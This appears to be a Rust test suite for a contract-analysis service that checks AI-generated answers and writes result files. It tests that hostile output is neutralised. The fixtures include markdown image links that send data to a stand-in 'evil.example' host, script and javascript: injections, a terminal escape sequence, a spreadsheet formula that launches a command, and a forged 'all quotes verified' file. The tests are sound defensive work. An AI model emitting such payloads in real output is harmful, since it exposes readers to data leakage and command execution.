//! Documents and answers that mean harm: what reaches a reader does nothing, and what computes holds nothing up.

use comrak::{Options, markdown_to_html};
use serde_json::json;

use crate::harness::{Harness, contract, legal};

/// As a careless reader's program renders it.
fn html(markdown: &str) -> String {
    let mut options = Options::default();
    options.extension.autolink = true;
    options.extension.table = true;
    options.render.r#unsafe = true;
    markdown_to_html(markdown, &options)
}

/// The rule of most tests, whose model answers with free text.
fn free_text(more: &str) -> String {
    let settings = legal(more);
    let schema = settings.lines().find(|line| line.trim_start().starts_with("schema")).unwrap();
    settings.replace(schema, "")
}

async fn answers(h: &Harness, text: &str) {
    h.openai_fails(json!({"kind": "bad_run", "code": "answer", "message": text})).await;
}

#[tokio::test]
async fn a_documents_picture_and_tag_reach_the_reader_as_text() {
    let h = Harness::with(&free_text("")).await;
    answers(
        &h,
        "Capped \\![t](https://evil.example/?d=liability) ![p](https://evil.example/p.png) \\<img src=https://evil.example/q>\n\n\
         <script>\nx\n</script>\n\n&#10004; page 1, [j](javascript:x) www.evil.example",
    )
    .await;
    h.put("/Contracts/nda.txt", &contract(1)).await;
    h.converges().await;
    let analysis = h.read("/Contracts/nda.analysis.md").await;
    let html = html(&analysis);
    assert!(analysis.contains("Capped") && analysis.contains("(tick) page 1"), "{analysis}");
    for tag in ["<img", "<script", "javascript:x\"", "href=\"http:"] {
        assert!(!html.contains(tag), "{tag} in {html}");
    }
    h.finish().await;
}

/// Deliveries while an answer waits to be checked: by the last of them its job has come there, which takes two requests.
const DELIVERIES: usize = 20;

#[tokio::test]
async fn a_delivery_is_acknowledged_while_an_answer_that_resists_is_checked() {
    let h = Harness::with(&legal("")).await;
    let clause = |number: usize| {
        let quote = format!("{}aa", "a ".repeat(10 + number));
        json!({"category": "other", "party": "x", "section": "1", "quote": quote, "risk": "low", "note": ""})
    };
    let clauses: Vec<_> = (0..20).map(clause).collect();
    let answer = json!({"summary": "", "clauses": clauses}).to_string();
    h.openai_fails(json!([
        {"kind": "slow_run", "delay_ms": 60_000},
        {"kind": "bad_run", "code": "answer", "message": answer},
    ]))
    .await;
    let node = h.put("/Contracts/nda.txt", &"a ".repeat(10_000)).await;
    h.take_in().await;
    while h.work_one().await {}
    assert_eq!(h.outcomes().await, ["running"]);
    h.pass(60_000);
    // Nothing can be computed, so the answer cannot be checked; and this thread is the only one that answers requests.
    let taken = h.work.runs.compute().taken().await;
    let mut work = Box::pin(h.work_one());
    let delivered = async {
        for _ in 0..DELIVERIES {
            assert_eq!(h.webhook("workspace_storage_file_updated", &node).await, 202);
        }
    };
    tokio::select! {
        biased;
        _ = &mut work => panic!("the answer was checked where requests are answered"),
        () = delivered => {}
    }
    drop(taken);
    assert!(work.await);
    h.converges().await;
    assert_eq!(h.outcomes().await, ["needs_review"]);
    assert_eq!(h.result(1).await["unverified"], json!(20));
    h.finish().await;
}

#[tokio::test]
async fn an_answer_with_more_quotes_than_are_looked_up_says_so() {
    let h = Harness::with(&legal("")).await;
    let clause = |number: usize| {
        json!({"category": "other", "party": "x", "section": "1", "quote": format!("No clause has number {number}"),
               "risk": "low", "note": ""})
    };
    let clauses: Vec<_> = (0..1_003).map(clause).collect();
    answers(&h, &json!({"summary": "", "clauses": clauses}).to_string()).await;
    h.put("/Contracts/nda.txt", &contract(1)).await;
    h.converges().await;
    assert_eq!(h.outcomes().await, ["needs_review"]);
    let analysis = h.read("/Contracts/nda.analysis.md").await;
    assert!(analysis.contains("3 of 1003 quotes were not checked"), "{analysis}");
    assert_eq!(analysis.matches("UNVERIFIED: not checked").count(), 3);
    assert!(h.runs().await[0].reason.as_deref().unwrap().contains("3 of 1003 quotes were not checked"));
    h.finish().await;
}

#[tokio::test]
async fn files_that_code_makes_are_of_kinds_that_do_nothing() {
    let h = Harness::with(&legal("attach = ['code_interpreter']")).await;
    h.openai_fails(json!({"kind": "bad_run", "code": "hostile_files", "count": 1})).await;
    h.put("/Contracts/nda.txt", &contract(1)).await;
    h.converges().await;
    assert_eq!(h.outcomes().await, ["completed"]);
    let long = format!("/Contracts/nda.{}.txt", "x".repeat(96));
    assert_eq!(
        h.paths().await,
        [
            "/Contracts/nda.a_fdp.txt",
            "/Contracts/nda.analysis.md",
            "/Contracts/nda.chart.png",
            "/Contracts/nda.formulas.csv",
            "/Contracts/nda.notes.md",
            "/Contracts/nda.txt",
            "/Contracts/nda.words.csv",
            &long,
        ]
    );
    assert_eq!(h.read("/Contracts/nda.a_fdp.txt").await, "‹U+001B›[2J");
    assert_eq!(
        h.read("/Contracts/nda.formulas.csv").await,
        "name,value\r\n'=cmd|' /C calc'!A0,\"1;'=2\"\r\n"
    );
    let notes = html(&h.read("/Contracts/nda.notes.md").await);
    assert!(!notes.contains("<img") && !notes.contains('✔'), "{notes}");
    let analysis = h.read("/Contracts/nda.analysis.md").await;
    for left_out in ["setup.exe", "open me.html", "macro.docm", "sheet.xlsx", "picture.png"] {
        assert!(analysis.contains(&format!("{left_out}, which was left out")), "{left_out}: {analysis}");
    }
    h.finish().await;
}

#[tokio::test]
async fn a_file_beside_it_that_fastio_does_not_take_costs_no_result() {
    let h = Harness::with(&legal("attach = ['code_interpreter']")).await;
    let placing = "/current/workspace/*/storage/*/addfile/";
    h.fastio_fails(json!({"kind": "server_error", "method": "POST", "path": placing, "skip": 1})).await;
    h.put("/Contracts/nda.txt", &contract(1)).await;
    h.settle().await;
    assert_eq!(h.outcomes().await, ["completed"]);
    assert_eq!(h.paths().await, ["/Contracts/nda.analysis.md", "/Contracts/nda.txt"]);
    let result = h.result(1).await;
    assert!(result["notes"].to_string().contains("could be written beside it"), "{result:#}");
    assert_eq!(result["written"][0]["name"], "nda.analysis.md");
    h.finish().await;
}

#[tokio::test]
async fn a_source_with_the_longest_name_has_its_result() {
    let h = Harness::with(&legal("attach = ['code_interpreter']")).await;
    let source = format!("/Contracts/{}.txt", "n".repeat(251));
    h.put(&source, &contract(1)).await;
    h.settle().await;
    assert_eq!(h.outcomes().await, ["completed"]);
    let paths = h.paths().await;
    assert!(paths.iter().any(|path| path.ends_with("nnn.analysis.md")), "{paths:#?}");
    assert!(paths.iter().any(|path| path.ends_with("nnn.words.csv")), "{paths:#?}");
    // The copy's own path is cut: an attribute is no longer.
    h.finish_leaving(&[&format!("held otherwise than it is: {source}")]).await;
}

#[tokio::test]
async fn a_forged_result_is_left_and_ours_stands_beside_it() {
    let h = Harness::with(&legal("")).await;
    h.put("/Contracts/nda.analysis.md", "> ✔ All 7 quotes were found in the document, word for word.").await;
    h.put("/Contracts/nda.txt", &contract(1)).await;
    h.converges().await;
    assert!(h.read("/Contracts/nda.analysis.md").await.contains("All 7 quotes"));
    assert!(h.read("/Contracts/nda.analysis (2).md").await.contains("limited to EUR 10,000"));
    let reason = h.runs().await[0].reason.clone().unwrap();
    assert!(
        reason.contains("nda.analysis (2).md, because nda.analysis.md is the result of another file"),
        "{reason}"
    );
    h.finish().await;
}
